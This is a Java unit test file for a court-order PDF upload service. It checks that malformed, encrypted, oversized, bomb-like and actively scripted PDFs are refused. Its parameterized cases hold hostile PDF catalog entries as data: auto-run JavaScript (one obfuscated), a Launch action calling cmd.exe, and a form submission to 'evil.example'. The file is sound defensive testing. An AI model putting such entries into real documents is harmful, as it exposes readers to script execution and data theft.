package org.clearance.domain.court.order;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.file.Path;
import java.time.Duration;
import java.util.Arrays;
import javax.sql.DataSource;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.encryption.AccessPermission;
import org.apache.pdfbox.pdmodel.encryption.StandardProtectionPolicy;
import org.clearance.domain.TestDatabase;
import org.clearance.domain.court.order.SignedOrderProperties.SignedOrder;
import org.clearance.domain.court.order.SignedOrders.TakeOrderResult;
import org.clearance.domain.ground.store.FileStore;
import org.clearance.domain.ground.store.FilesUnderWay;
import org.clearance.domain.ground.upload.MalwareScanner;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.springframework.jdbc.core.simple.JdbcClient;

class SignedOrdersTest {
  @TempDir Path data;
  private final DataSource database = TestDatabase.migrated();
  private FileStore store;
  private SignedOrders orders;

  @BeforeEach
  void start() {
    store = new FileStore(JdbcClient.create(database), data);
    orders = taking(20_000, "");
  }

  @AfterEach
  void giveBack() {
    TestDatabase.giveBack(database);
  }

  @Test
  void a_pdf_is_stored_under_its_hash() throws IOException {
    byte[] pdf = pdf("");

    var stored = (TakeOrderResult.Stored) orders.take(new ByteArrayInputStream(pdf));

    assertThat(stored.pages()).isEqualTo(1);
    assertThat(store.open(stored.file().sha256())).hasBinaryContent(pdf);
  }

  @Test
  void what_only_claims_to_be_a_pdf_is_refused() {
    assertRefused("<html>order.pdf</html>".getBytes(UTF_8), "The file is not a PDF");
    assertRefused(new byte[0], "The file is not a PDF");
    assertRefused("%PDF-1.7\nnothing of the kind".getBytes(UTF_8), "cannot be opened");
  }

  @Test
  void a_pdf_that_broke_off_on_its_way_is_refused() throws IOException {
    byte[] pdf = pdf("");
    assertRefused(Arrays.copyOf(pdf, 20), "cannot be opened");
  }

  @Test
  void a_pdf_with_a_password_is_refused() throws IOException {
    assertRefused(pdf("secret"), "protected with a password");
  }

  @Test
  void a_file_beyond_the_limit_is_refused() {
    assertRefused(new byte[20_001], "larger than");
  }

  @Test
  void a_pdf_that_unpacks_to_gigabytes_is_refused_and_takes_nothing_of_our_memory()
      throws IOException {
    orders = taking(10_000_000, "");
    assertRefused(PdfBomb.thatUnpacksTo(1_500L << 20), "takes too much memory or time");
  }

  @Test
  void one_that_sends_its_reader_in_circles_is_refused() {
    String nested = "[".repeat(100_000) + "]".repeat(100_000);
    orders = taking(10_000_000, "");
    assertRefused(
        ("%PDF-1.7\n1 0 obj\n" + nested + "\nendobj\ntrailer <</Root 1 0 R>>").getBytes(UTF_8),
        "cannot be opened");
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      textBlock =
          """
          /OpenAction <</S /JavaScript /JS (app.alert\\(1\\))>>         | a script
          /AA <</WC <</S /JavaScript /JS (this.exportDataObject)>>>>      | a script
          /Names <</JavaScript <</Names [(a) <</S /JavaScript /JS (1)>>]>>>> | a script
          /OpenAction <</S /J#61vaScript /J#53 (1)>>                      | a script
          /OpenAction <</S /Launch /F (cmd.exe)>>                         | opens another file or program
          /Names <</EmbeddedFiles <</Names []>>>>                         | another file inside
          /AcroForm <</Fields [] /XFA []>>                                | a form that sends data
          /OpenAction <</S /SubmitForm /F (http://evil.example)>>         | a form that sends data
          """)
  void a_pdf_that_does_more_than_show_pages_is_refused(String entry, String what) {
    assertRefused(withEntry(entry), what);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "/OpenAction [3 0 R /Fit]",
        "/OpenAction <</S /GoTo /D [3 0 R /Fit]>>",
        "/Metadata <</Type /Metadata>>",
        "/AcroForm <</Fields []>>"
      })
  void a_pdf_that_opens_at_a_page_is_taken_as_scanners_make_them(String entry) {
    assertThat(orders.take(new ByteArrayInputStream(withEntry(entry))))
        .isInstanceOf(TakeOrderResult.Stored.class);
  }

  @Test
  void the_offices_malware_scanner_is_given_the_file() throws IOException {
    orders = taking(20_000, "grep -q ^%PDF");
    assertThat(orders.take(new ByteArrayInputStream(pdf(""))))
        .isInstanceOf(TakeOrderResult.Stored.class);
  }

  @Test
  void a_scanner_that_finds_something_or_does_not_run_keeps_the_file_out() throws IOException {
    orders = taking(20_000, "false");
    assertRefused(pdf(""), "The malware scanner found something");
    orders = taking(20_000, "no-such-scanner --fdpass");
    assertRefused(pdf(""), "could not be scanned");
    orders = taking(20_000, "ls --no-such-option");
    assertRefused(pdf(""), "could not be scanned");
  }

  @Test
  void nothing_is_left_of_an_upload_that_was_looked_into() throws IOException {
    orders.take(new ByteArrayInputStream(pdf("")));
    assertThat(FilesUnderWay.in(data.resolve("work"))).isEmpty();
  }

  private SignedOrders taking(long most, String scanner) {
    return new SignedOrders(
        store,
        new SignedOrderProperties(new SignedOrder(most, 60)),
        new MalwareScanner(scanner, Duration.ofSeconds(60)));
  }

  /** A page, and something in the catalog. */
  private static byte[] withEntry(String entry) {
    return """
    %%PDF-1.7
    1 0 obj
    <</Type /Catalog /Pages 2 0 R %s>>
    endobj
    2 0 obj
    <</Type /Pages /Kids [3 0 R] /Count 1>>
    endobj
    3 0 obj
    <</Type /Page /Parent 2 0 R /MediaBox [0 0 612 792]>>
    endobj
    trailer
    <</Root 1 0 R /Size 4>>
    """
        .formatted(entry)
        .getBytes(UTF_8);
  }

  private void assertRefused(byte[] upload, String message) {
    assertThat(orders.take(new ByteArrayInputStream(upload)))
        .isInstanceOfSatisfying(
            TakeOrderResult.Refused.class,
            refused -> assertThat(refused.message().toString()).contains(message));
    assertThat(data.resolve("store")).doesNotExist();
  }

  private static byte[] pdf(String password) throws IOException {
    var bytes = new ByteArrayOutputStream();
    try (var document = new PDDocument()) {
      document.addPage(new PDPage());
      if (!password.isEmpty()) {
        document.protect(new StandardProtectionPolicy(password, password, new AccessPermission()));
      }
      document.save(bytes);
    }
    return bytes.toByteArray();
  }
}
